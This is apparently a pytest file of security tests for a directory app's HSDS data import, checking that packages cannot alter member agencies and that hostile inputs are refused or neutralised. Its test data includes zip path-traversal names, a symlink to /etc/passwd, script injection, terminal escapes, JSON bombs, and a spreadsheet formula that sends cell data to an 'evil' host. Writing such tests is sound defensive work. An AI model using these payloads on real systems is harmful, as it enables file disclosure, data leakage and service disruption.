"""Review of the HSDS import (issue 23) against SECURITY.md: a package may not change, nor add anything to, an agency
CSRN made itself (a member's name, a public location at a member's address, services filed under a member); hostile
JSON and package descriptions are refused cleanly, never a 500; a failure in the middle of the write phase leaves
nothing behind; hostile .zip members and CSV cells are refused naming the file."""

from __future__ import annotations

import csv
import io
import json
import shutil
import stat
import zipfile
from pathlib import Path

import pytest
from sqlalchemy import func, select

from csrn.agencies.models import Agency
from csrn.audit.models import AuditEvent
from csrn.directory.models import Location, Service
from csrn.extensions import db
from csrn.hsds import importer
from csrn.hsds.importer import PackageRefused, import_package
from csrn.hsds.models import ImportedObject
from tests.conftest import NOW
from tests.test_hsds_import import DATA, SERVICE, _counts, _import, _refused, _rewrite, _zip

NEW_LOCATION = "00000000-0000-4000-8000-00000000c001"
NEW_SERVICE = "00000000-0000-4000-8000-00000000c002"


@pytest.fixture
def example(tmp_path) -> Path:
    """A copy of the official CSV example package, to change."""
    folder = tmp_path / "package"
    shutil.copytree(DATA / "csv", folder)
    return folder


def _member(app, create_agency, **fields) -> tuple[int, str, str]:
    agency_id = create_agency("Safe Haven Shelter", description="Ours", **fields)
    with app.app_context():
        agency = db.session.get(Agency, agency_id)
        return agency.id, agency.uuid, agency.name


def _organization(uuid: str, name: str, **extra) -> bytes:
    return json.dumps({"id": uuid, "name": name, "description": "Ours", **extra}).encode()


def test_a_package_cannot_rename_a_member_agency_in_two_steps(app, create_agency):
    """Stating a member's current name once must not make the next package's new name look like the import's."""
    agency_id, uuid, name = _member(app, create_agency)
    _import(app, name="first.json", data=_organization(uuid, name, website="https://evil.example"))
    report = _import(app, name="second.json", data=_organization(uuid, "Renamed by a package",
                                                                  description="Evil"))
    with app.app_context():
        agency = db.session.get(Agency, agency_id)
        assert (agency.name, agency.description, agency.website) == (name, "Ours", "")
        assert db.session.scalar(select(func.count()).select_from(ImportedObject)
                                 .where(ImportedObject.object_uuid == uuid)) == 0
    assert report.table("organization").updated == 0


def test_a_package_cannot_add_a_public_location_or_a_service_to_a_member_agency(app, create_agency):
    agency_id, uuid, name = _member(app, create_agency)
    package = _organization(uuid, name, locations=[{
        "id": NEW_LOCATION, "location_type": "physical", "name": "Shelter",
        "addresses": [{"id": "00000000-0000-4000-8000-00000000c003", "address_1": "12 Hidden Lane",
                       "city": "Riverton", "state_province": "IL", "postal_code": "60000", "country": "US",
                       "address_type": "physical"}]}],
        services=[{"id": NEW_SERVICE, "name": "Beds tonight", "status": "active"}])
    report = _import(app, name="attach.json", data=package)
    with app.app_context():
        assert db.session.scalar(select(Location).where(Location.uuid == NEW_LOCATION)) is None
        assert db.session.scalar(select(Service).where(Service.uuid == NEW_SERVICE)) is None
        assert db.session.scalar(select(func.count()).select_from(Location)
                                 .where(Location.agency_id == agency_id)) == 0
    warnings = "\n".join(report.warnings)
    assert NEW_LOCATION not in warnings or "not imported" in warnings
    assert report.created == 0


def test_a_package_cannot_add_a_service_to_a_member_by_reference_alone(app, create_agency, example):
    """services.csv naming a member agency's id (it is in every export) without the organization's row."""
    agency_id, uuid, _ = _member(app, create_agency)
    _rewrite(example / "services.csv", lambda rows: rows[0].update(organization_id=uuid))
    _import(app, example)
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Service)
                                 .where(Service.agency_id == agency_id)) == 0
        assert db.session.scalar(select(func.count()).select_from(Location)
                                 .where(Location.agency_id == agency_id)) == 0


def test_a_reimport_cannot_move_an_imported_service_or_location_to_a_member(app, create_agency, example):
    agency_id, uuid, _ = _member(app, create_agency)
    _import(app, example)
    _rewrite(example / "services.csv", lambda rows: rows[0].update(organization_id=uuid))
    _rewrite(example / "locations.csv", lambda rows: rows[0].update(organization_id=uuid))
    _import(app, example)
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Service)
                                 .where(Service.agency_id == agency_id)) == 0
        assert db.session.scalar(select(func.count()).select_from(Location)
                                 .where(Location.agency_id == agency_id)) == 0


def test_an_imported_agency_that_became_a_member_gets_no_new_locations(app, example):
    _import(app, example)
    with app.app_context():
        agency = db.session.scalar(select(Agency).where(Agency.name == "Example Organization Inc."))
        agency.membership_status = "member"
        db.session.commit()
        agency_id = agency.id
        before = db.session.scalar(select(func.count()).select_from(Location).where(Location.agency_id == agency_id))
    organization = "d9d5e0f5-d3ce-4f73-9a2f-4dd0ecc6c610"
    _rewrite(example / "locations.csv", lambda rows: rows.append(dict(rows[0], id=NEW_LOCATION,
                                                                      organization_id=organization)))
    _import(app, example)
    with app.app_context():
        assert db.session.scalar(select(Location).where(Location.uuid == NEW_LOCATION)) is None
        assert db.session.scalar(select(func.count()).select_from(Location)
                                 .where(Location.agency_id == agency_id)) == before


# ----- hostile JSON and package descriptions: a clean refusal, never a 500 ---------------------------------------

def test_a_deeply_nested_datapackage_json_is_refused(app, example):
    (example / "datapackage.json").write_text("[" * 100_000 + "]" * 100_000)
    assert "datapackage.json" in _refused(app, example)


@pytest.mark.parametrize("number", ["1" * 5000, "1e999999", "-1e999999"])
def test_a_json_file_with_a_huge_number_is_refused(app, number):
    text = (DATA / "service_full.json").read_text()
    data = json.loads(text)
    data.pop("minimum_age", None)
    body = json.dumps(data)
    body = body[:-1] + f', "minimum_age": {number}}}'
    assert _refused(app, name="huge.json", data=body.encode())


def test_a_deeply_nested_json_file_is_refused(app):
    assert "nested too deeply" in _refused(app, name="deep.json", data=b"[" * 100_000 + b"]" * 100_000)


def test_the_same_object_twice_with_a_deep_unknown_field_is_refused_or_imported(app):
    data = json.loads((DATA / "service_full.json").read_text())
    deep = "[" * 900 + "]" * 900
    body = json.dumps(data)
    # The location appears under the service's location and again at the top: give both copies a deep field.
    location = data["service_at_locations"][0]["location"]
    location_json = json.dumps(location)
    patched = location_json[:-1] + f', "x_deep": {deep}}}'
    body = body.replace(location_json, patched)
    data2 = json.loads(body)  # parses at this depth
    data2["organization"]["locations"] = [data2["service_at_locations"][0]["location"]]
    text = json.dumps(data2)
    try:
        _import(app, name="deep.json", data=text.encode())
    except PackageRefused:
        pass


# ----- all or nothing --------------------------------------------------------------------------------------------

def test_an_error_in_the_middle_of_the_write_phase_leaves_nothing(app, monkeypatch):
    before = _counts(app)
    with app.app_context():
        audits = db.session.scalar(select(func.count()).select_from(AuditEvent))
    original = importer._Writer.write

    def failing(self, kind, planned):
        if kind == "service":
            raise RuntimeError("disk full")
        return original(self, kind, planned)

    monkeypatch.setattr(importer._Writer, "write", failing)
    with pytest.raises(RuntimeError), app.app_context():
        import_package(None, NOW, path=DATA / "csv")
    assert _counts(app) == before
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(AuditEvent)) == audits


def test_an_upload_failing_in_the_write_phase_is_a_page_not_a_traceback(app, login_as, monkeypatch):
    from tests.test_hsds_import import _upload

    browser = login_as(roles=("chair",))
    before = _counts(app)

    def failing(self, kind, planned):
        raise RuntimeError("disk full")

    monkeypatch.setattr(importer._Writer, "write", failing)
    app.config["PROPAGATE_EXCEPTIONS"] = False
    try:
        response = _upload(browser, _zip(DATA / "csv"), "example.zip")
    finally:
        app.config["PROPAGATE_EXCEPTIONS"] = None
    assert response.status_code == 500 and "Traceback" not in response.get_data(as_text=True)
    assert _counts(app) == before


# ----- hostile .zip members and CSV cells ------------------------------------------------------------------------

@pytest.mark.parametrize("member", ["..\\evil.csv", "\\evil.csv", "C:\\evil.csv", "sub\\..\\..\\evil.csv",
                                    "d:evil.csv"])
def test_a_zip_with_backslash_or_drive_paths_is_refused(app, example, member):
    problems = _refused(app, name="evil.zip", data=_zip(example, {member: b"x"}))
    assert "evil.zip" in problems


def test_a_zip_with_a_link_is_refused(app, example):
    buffer = io.BytesIO(_zip(example))
    with zipfile.ZipFile(buffer, "a") as archive:
        info = zipfile.ZipInfo("phones.csv.link")
        info.create_system = 3
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(info, "/etc/passwd")
    assert "a link" in _refused(app, name="link.zip", data=buffer.getvalue())


def test_a_zip_with_too_many_members_is_refused(app, example):
    extra = {f"notes/{n}.txt": b"" for n in range(300)}
    assert "more than the" in _refused(app, name="many.zip", data=_zip(example, extra))


def test_a_nested_zip_is_not_opened(app, example):
    inner = _zip(example, {"services.csv": b"0" * 1_000_000})
    report = _import(app, name="outer.zip", data=_zip(example, {"inner.zip": inner}))
    assert report.table("service").created == 1


def test_a_csv_with_a_huge_field_is_refused_naming_the_file(app, example):
    _rewrite(example / "services.csv", lambda rows: rows[0].update(description="x" * 600_000))
    assert "services.csv line 2: not a readable CSV file (field larger than field limit" in _refused(app, example)


def test_a_csv_with_a_bom_imports(app, example):
    path = example / "organizations.csv"
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    assert _import(app, example).table("organization").created == 1


def test_control_and_bidi_characters_in_names_are_folded(app, example):
    _rewrite(example / "organizations.csv", lambda rows: rows[0].update(name="Evil\u202eOrg\u2028Bcc: x\u0085y"))
    _rewrite(example / "services.csv", lambda rows: rows[0].update(
        name="<script>alert(1)</script>\r\nSubject", description="=HYPERLINK(\"http://evil\")\x07\n<b>x</b>"))
    _import(app, example)
    with app.app_context():
        agency = db.session.scalar(select(Agency).where(Agency.uuid == "d9d5e0f5-d3ce-4f73-9a2f-4dd0ecc6c610"))
        assert all(c.isprintable() for c in agency.name)
        service = db.session.scalar(select(Service).where(Service.uuid == SERVICE))
        assert all(c.isprintable() for c in service.name)
        assert "\x07" not in service.description


def test_a_zip_of_very_many_empty_members_is_refused_before_it_is_read(app, monkeypatch):
    """zipfile would read the whole central directory (seconds, hundreds of MB) before the member count is known."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for number in range(30_000):
            archive.writestr(f"{number}", b"")
    calls = []
    monkeypatch.setattr(zipfile.ZipFile, "__init__", lambda *args, **kwargs: calls.append(1) or None)
    assert "more than the" in _refused(app, name="many.zip", data=buffer.getvalue())
    assert not calls


def test_an_upload_over_the_request_limit_is_a_page(app, login_as, monkeypatch):
    from tests.test_hsds_import import _upload

    browser = login_as(roles=("chair",))
    monkeypatch.setitem(app.config, "MAX_CONTENT_LENGTH", 50_000)
    response = _upload(browser, b"{" + b" " * 60_000 + b"}", "big.json")
    assert response.status_code == 413 and "<html" in response.get_data(as_text=True).lower()
    assert "Traceback" not in response.get_data(as_text=True)


def test_a_reimport_changes_nothing_of_an_imported_agency_that_became_a_member(app, example):
    """Its type decides what its users see (SECURITY P6); its entries are its own once it is a member."""
    organization = "d9d5e0f5-d3ce-4f73-9a2f-4dd0ecc6c610"
    _import(app, example)
    with app.app_context():
        agency = db.session.scalar(select(Agency).where(Agency.uuid == organization))
        agency.membership_status = "member"
        db.session.commit()
    _rewrite(example / "organizations.csv", lambda rows: rows[0].update(name="Renamed", description="New"))
    _rewrite(example / "taxonomy_terms.csv", lambda rows: rows[0].update(code="law_enforcement", name="x"))
    _rewrite(example / "attributes.csv", lambda rows: rows[0].update(link_id=organization,
                                                                     link_entity="organization"))
    _rewrite(example / "services.csv", lambda rows: rows[0].update(name="Renamed service", status="inactive"))
    _rewrite(example / "addresses.csv", lambda rows: rows[0].update(address_1="1 Other Street"))
    report = _import(app, example)
    with app.app_context():
        agency = db.session.scalar(select(Agency).where(Agency.uuid == organization))
        assert (agency.name, agency.agency_type) == ("Example Organization Inc.", "community")
        service = db.session.scalar(select(Service).where(Service.uuid == SERVICE))
        assert (service.name, service.status) == ("Community Counselling", "active")
        location = db.session.scalar(select(Location).where(Location.agency_id == agency.id))
        assert location.address_1 == "1-30 Main Street"
    assert sum(report.table(t).updated for t in ("organization", "location", "service")) == 0


def test_long_text_is_cut_to_what_the_forms_accept_with_a_warning(app):
    """A 600 kB description from JSON would make the entry impossible to save again in CSRN's own forms."""
    data = json.loads((DATA / "service_full.json").read_text())
    data["description"] = "d" * 600_000
    data["application_process"] = "a" * 3000
    data["organization"]["description"] = "o" * 7000
    report = _import(app, name="long.json", data=json.dumps(data).encode())
    with app.app_context():
        service = db.session.scalar(select(Service).where(Service.uuid == SERVICE))
        assert (len(service.description), len(service.how_to_refer), len(service.agency.description)) == (
            5000, 2000, 5000)
    assert sum("cut to" in warning for warning in report.warnings) == 3


def test_an_update_is_audited_with_the_names_of_the_fields_it_wrote(app, example):
    _import(app, example)
    _rewrite(example / "services.csv", lambda rows: rows[0].update(name="Renamed service"))
    _import(app, example)
    with app.app_context():
        service_id = db.session.scalar(select(Service.id).where(Service.uuid == SERVICE))
        fields = db.session.scalars(select(AuditEvent.fields).where(AuditEvent.action == "hsds.service_imported",
                                                                    AuditEvent.object_id == str(service_id))).all()
    assert "name,updated" in fields and not any("Renamed" in f for f in fields)


def test_a_csv_of_millions_of_tiny_rows_is_refused_as_it_is_read(app, example, monkeypatch):
    """4 MB of two-byte lines held 1.5 GB and took 8 s before; a 50 MB one would have run out of memory."""
    from csrn.hsds import reading, rows

    monkeypatch.setattr(reading, "MAX_ROWS", 1000)
    monkeypatch.setattr(rows, "MAX_ROWS", 1000)
    (example / "phones.csv").write_bytes(b"id\n" + b"x\n" * 5000)
    assert "phones.csv: more than 1000 rows" in _refused(app, example)
    assert "more than 1000 rows" in _refused(app, name="many.zip", data=_zip(example))


def test_rows_over_the_limit_across_tables_are_refused(app, example, monkeypatch):
    from csrn.hsds import rows

    monkeypatch.setattr(rows, "MAX_ROWS", 5)
    assert "more than 5 rows" in _refused(app, example)
    assert "more than 5 rows" in _refused(app, name="service_full.json",
                                          data=(DATA / "service_full.json").read_bytes())


def test_a_json_file_of_millions_of_empty_objects_is_refused_before_it_is_parsed(app, monkeypatch):
    from csrn.hsds import reading

    monkeypatch.setattr(reading, "MAX_JSON_CONTAINERS", 1000)
    parsed = []
    monkeypatch.setattr(reading.json, "loads", lambda *a, **k: parsed.append(1) or {})
    assert "more than 1000 objects and lists" in _refused(app, name="empty.json",
                                                          data=b"[" + b"{}," * 5000 + b"{}]")
    assert not parsed


def test_messages_quoting_the_package_hold_no_terminal_escapes(app, example, runner):
    """The command prints refusals and warnings: a member name or a header with an escape sequence is not text."""
    escape = "\x1b]0;owned\x07\x1b[2J"
    problems = _refused(app, name="evil.zip", data=_zip(example, {
        "organizations.csv": (f"id,name,description,{escape}\n"
                              "00000000-0000-4000-8000-0000000000aa,A\x00B,x,y\n").encode()}))
    assert "\x1b" not in problems and "\x07" not in problems and "field name: a NUL byte" in problems
    report = _import(app, name="warn.zip", data=_zip(example, {f"{escape}.csv": b"id\n"}))
    assert any("\x1b" in warning for warning in report.warnings)  # the page shows them escaped
    assert not any("\x1b" in line or "\x07" in line for line in report.lines())


@pytest.mark.parametrize("value", ["\u00b2", "\u0663", "9" * 5000, "99999999999999999999", "10001"])
def test_capacity_numbers_that_are_not_small_ascii_digits_are_not_imported(app, example, value):
    """`str.isdigit()` is true of "²" and of 5,000 nines, which int() refuses; 20 digits overflow the column."""
    _rewrite(example / "taxonomy_terms.csv", lambda rows: rows[0].update(code="csrn-open-slots"))
    _rewrite(example / "attributes.csv", lambda rows: rows[0].update(link_id=SERVICE, link_entity="service",
                                                                     value=value))
    _import(app, example)
    with app.app_context():
        assert db.session.scalar(select(Service.open_slots).where(Service.uuid == SERVICE)) is None


@pytest.mark.parametrize("value", ["9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+23:59", "not a date"])
def test_a_capacity_confirmation_date_out_of_range_is_not_imported(app, example, value):
    _rewrite(example / "taxonomy_terms.csv", lambda rows: rows[0].update(code="csrn-capacity-confirmed"))
    _rewrite(example / "attributes.csv", lambda rows: rows[0].update(link_id=SERVICE, link_entity="service",
                                                                     value=value))
    _import(app, example)
    with app.app_context():
        assert db.session.scalar(select(Service.capacity_confirmed_at).where(Service.uuid == SERVICE)) is None


def test_formula_cells_imported_come_out_of_the_export_neutralised(app, example, runner, tmp_path):
    _rewrite(example / "services.csv", lambda rows: rows[0].update(name='=HYPERLINK("http://evil/?"&A1,"x")',
                                                                    description="+SUM(1+1)"))
    _import(app, example)
    out = tmp_path / "out"
    assert runner.invoke(args=["csrn", "export-hsds", str(out)]).exit_code == 0
    with open(out / "services.csv", newline="", encoding="utf-8") as handle:
        row = next(r for r in csv.DictReader(handle) if r["id"] == SERVICE)
    assert row["name"].startswith("'=") and row["description"].startswith("'+")
